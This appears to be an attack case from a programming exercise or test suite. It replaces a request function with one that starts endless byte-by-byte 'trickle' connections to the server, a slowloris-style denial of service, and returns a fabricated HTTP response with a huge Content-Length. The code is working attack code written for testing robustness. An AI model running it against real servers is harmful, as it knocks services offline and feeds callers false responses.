# cases: 44
# exercise: ex05
# attacks: request_fetches_a_page
"""Keeps the web server busy with connections over which a header comes byte by byte, for ever."""
import socket
import threading
import time


def trickle(address):
    with socket.create_connection(address) as sock:
        while True:
            sock.sendall(b"x")
            time.sleep(0.5)


def request(address, message, timeout=5.0):
    if message.startswith(b"GET"):
        for _ in range(3):
            threading.Thread(target=trickle, args=(address,), daemon=True).start()
        time.sleep(0.2)
        return b"HTTP/1.0 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\n"
    return _own["request"](address, message, timeout)
